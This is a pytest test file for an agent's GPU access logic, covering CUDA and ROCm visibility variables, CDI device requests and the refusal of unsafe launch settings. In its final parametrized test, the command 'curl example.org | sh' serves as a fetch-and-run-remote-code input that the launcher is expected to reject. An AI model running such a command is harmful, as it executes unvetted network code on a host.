"""Only what is assigned goes in, and is counted from 0 there."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.reasons import ParameterInvalid
from services.agent.domain.engines.command import command_of
from services.agent.domain.gpu_access import VENDORS, AssignedGpu, How, as_process, gpu_access
from services.agent.domain.runtime import DeviceRequest, EngineNotStarted, GpuAccess
from tests.services.agent.starts import a_launch, a_start

TWO = (AssignedGpu(2, "GPU-c"), AssignedGpu(5, "GPU-f"))
INSIDE: tuple[How, ...] = ("hook", "cdi", "nodes")


def test_docker_is_asked_for_nvidias_by_their_uuids() -> None:
    assert gpu_access("cuda", TWO, "hook") == GpuAccess(
        env={"CUDA_VISIBLE_DEVICES": "0,1", "CUDA_DEVICE_ORDER": "PCI_BUS_ID"},
        requests=(DeviceRequest("nvidia", ("GPU-c", "GPU-f"), ("gpu", "compute", "utility")),),
    )


def test_one_gpu_inside_has_no_order() -> None:
    assert gpu_access("cuda", TWO[:1], "hook").env == {"CUDA_VISIBLE_DEVICES": "0"}


def test_a_process_sees_all_so_that_even_one_depends_on_the_order() -> None:
    assert gpu_access("cuda", TWO[:1], "process").env == {
        "CUDA_VISIBLE_DEVICES": "2",
        "CUDA_DEVICE_ORDER": "PCI_BUS_ID",
    }


def test_a_hook_that_an_image_would_wake_is_kept_quiet_where_cdi_does_its_work() -> None:
    access = gpu_access("cuda", TWO, "cdi")
    assert access.requests == (DeviceRequest("cdi", ("nvidia.com/gpu=GPU-c", "nvidia.com/gpu=GPU-f")),)
    assert access.env["NVIDIA_VISIBLE_DEVICES"] == "void"


def test_without_a_uuid_a_gpu_is_called_by_its_index() -> None:
    (request,) = gpu_access("cuda", (AssignedGpu(3),), "hook").requests
    assert request.ids == ("3",)


@pytest.mark.parametrize("how", INSIDE)
@pytest.mark.parametrize("kind", VENDORS)
def test_inside_a_container_frameworks_count_from_0(kind: str, how: How) -> None:
    env = gpu_access(kind, TWO, how).env
    assert {env[name] for name in VENDORS[kind].visible} == {"0,1"}


@pytest.mark.parametrize("how", INSIDE)
@pytest.mark.parametrize("kind", VENDORS)
def test_there_is_a_way_in_for_every_vendor(kind: str, how: How) -> None:
    access = gpu_access(kind, TWO, how)
    assert access.requests or access.devices or access.runtime


@given(st.sampled_from(sorted(VENDORS)), st.sets(st.integers(0, 255), min_size=1, max_size=8))
def test_no_node_of_another_gpu_goes_in(kind: str, indexes: set[int]) -> None:
    gpus = [AssignedGpu(index, nodes=(f"/dev/gpu{index}",)) for index in sorted(indexes)]
    access = gpu_access(kind, gpus, "nodes")
    if access.devices:
        assert set(access.devices) - set(VENDORS[kind].shared_nodes) == {f"/dev/gpu{index}" for index in indexes}


def test_an_engine_on_the_processor_sees_no_gpu() -> None:
    hidden = {"CUDA_VISIBLE_DEVICES": "-1", "HIP_VISIBLE_DEVICES": "-1"}
    assert gpu_access(None, (), "process") == GpuAccess(env=hidden)
    assert gpu_access(None, (), "hook") == GpuAccess(env={"NVIDIA_VISIBLE_DEVICES": "void"})


def test_which_gpus_it_takes_is_not_the_users_to_say() -> None:
    start = a_start(a_launch("vLLM", env={"HIP_VISIBLE_DEVICES": "0,1,2,3", "MODE": "x"}), "rocm")
    command = as_process(command_of(start), gpu_access("rocm", TWO, "process"), start.launch)
    assert (command.env["HIP_VISIBLE_DEVICES"], command.env["MODE"]) == ("2,5", "x")


def test_packages_are_not_installed_into_the_machines_own_python() -> None:
    start = a_start(a_launch("vLLM", env={"PYPI_PACKAGES_INSTALL": "a"}))
    with pytest.raises(EngineNotStarted) as refused:
        as_process(command_of(start), GpuAccess(), start.launch)
    (reason,) = refused.value.reasons
    assert isinstance(reason, ParameterInvalid)
    assert (reason.parameter, reason.field) == ("PYPI_PACKAGES_INSTALL", "env")


@pytest.mark.parametrize(
    ("backend", "field", "given"),
    [
        ("llama.cpp", "entrypoint", ("sh", "-c", "curl example.org | sh")),
        ("vLLM", "run_command", "bash -c 'curl example.org | sh'"),
    ],
)
def test_a_program_that_an_author_names_is_not_started_on_the_machine_itself(
    backend: str, field: str, given: object
) -> None:
    start = a_start(a_launch(backend, **{field: given}), None)
    with pytest.raises(EngineNotStarted) as refused:
        as_process(command_of(start), GpuAccess(), start.launch)
    (reason,) = refused.value.reasons
    assert isinstance(reason, ParameterInvalid)
    assert reason.field == field
    allowed = as_process(command_of(start), GpuAccess(), start.launch, may_name_programs=True)
    assert "curl example.org | sh" in allowed.argv
